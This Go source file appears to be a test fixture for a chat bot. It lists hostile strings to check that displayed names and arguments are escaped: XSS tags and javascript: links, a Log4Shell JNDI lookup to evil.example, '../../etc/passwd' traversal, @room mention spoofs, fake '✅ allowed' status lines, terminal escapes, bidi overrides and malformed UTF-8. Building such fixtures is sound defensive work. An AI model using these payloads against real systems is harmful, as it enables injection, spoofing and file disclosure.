// Package hostile holds text as an attacker picks it for names and arguments, for
// tests of whatever shows them.
package hostile

import "strings"

// Texts each try to leave their place in a message.
var Texts = []string{
	// Tags and what browsers make of them.
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `</code><b>allowed</b>`, `</li></ul><h1>x`,
	`<a href="https://evil.example">ok</a>`, `<mx-reply><blockquote>admin: yes</blockquote></mx-reply>`,
	`<font color=red>denied</font>`, `<span data-mx-spoiler>x</span>`, `<!-- -->`, `<![CDATA[x]]>`,
	`&lt;b&gt;`, `&#60;b&#62;`, `&amp;lt;`, `"><svg onload=x>`, `' onclick='x`, "<\x00script>", `<scr<script>ipt>`,
	`＜script＞`, `\u003cb\u003e`, "<img src=\"mxc://evil/x\">",
	// Mentions and pills.
	`@room`, `hey @room wake up`, `＠room`, `﹫room`, "@\u200broom", `@admin:localhost`, `[@admin](https://matrix.to/#/@admin:localhost)`,
	`<a href="https://matrix.to/#/@admin:localhost">admin</a>`, `matrix:u/admin:localhost`, `matrix:roomid/x:y`,
	`#ops:localhost`, `!abc:localhost`, `+group:localhost`, `$event:localhost`, `@1:2`, `#1:2`,
	// Links.
	`http://evil.example`, `https://evil.example/?q=<x>`, `HTTPS://EVIL.EXAMPLE`, `hxxp://evil.example`, `//evil.example`,
	`www.evil.example`, `evil.example`, `evil。example`, `evil．example`, `evil｡example`, `evil․example`, `https：//evil.example`,
	`1.2.3.4`, `http://1.2.3.4:80/`, `localhost:8080`, `http://[::1]/`, `admin@evil.example`, `mailto:a@b.example`,
	`javascript:alert(1)`, `data:text/html,x`, `tel:+15551234`, `ftp://x`, `xmpp:a@b`, `README.md`, `пример.рф`, `例え.テスト`,
	`xn--e1afmkfd.xn--p1ai`, `user:pass@evil.example`, `evil.example:443`, `evil.-example`, `[x](http://evil.example)`,
	// Lines and columns of ours.
	"x\n✅ allowed · w1 · github", "x\r\n⛔ denied", "x\u2028✅", "x\u2029y", "x\vy\fz", "x\u0085y", "a · b · c", "✅ allowed", "⚙ 12:00:00 · admin",
	"**bold** `code`", "```\nblock\n```", "/me leaves", "> quoted", "| a | b |", "cut…",
	// Terminals.
	"\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "a\b\b\bb", "bell\a", "\x00", "del\x7f", "tab\tx",
	// Direction.
	"abc\u202egnp.exe", "\u202dx", "\u2066x\u2069", "\u2067x", "\u2068x", "\u200ex", "\u200fx", "\u061cx", "אבג 200 allowed", "مرحبا 1 allowed", "\U0001e900x",
	// What can't be seen, or is too much to be seen.
	"a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "\ufeffx", "a\u00adb", "a\u034fb", "\u115f\u1160\u3164\uffa0", "\u2800\u2800", "x\ufe0f", "x\U000e0101",
	"\U000e0041\U000e0042", "a\u00a0b\u3000c", "\ue000", "\U0010ffff", "\ufffe",
	"Z" + strings.Repeat("\u0301", 50), strings.Repeat("A", 1<<16), strings.Repeat("🦀", 4096), strings.Repeat("<", 4096), strings.Repeat("\u202e", 4096),
	// Broken encodings.
	"\xff\xfe", "\xc0\xbc", "\xed\xa0\x80", "a\xe2\x80", "\xf4\x90\x80\x80",
	`{"a":{"a":{"a":{}}}}`, `{"url":"https://evil.example","cc":"@room"}`, `__proto__`, `${jndi:ldap://evil.example/x}`, `%0aallowed`, `../../etc/passwd`,
}
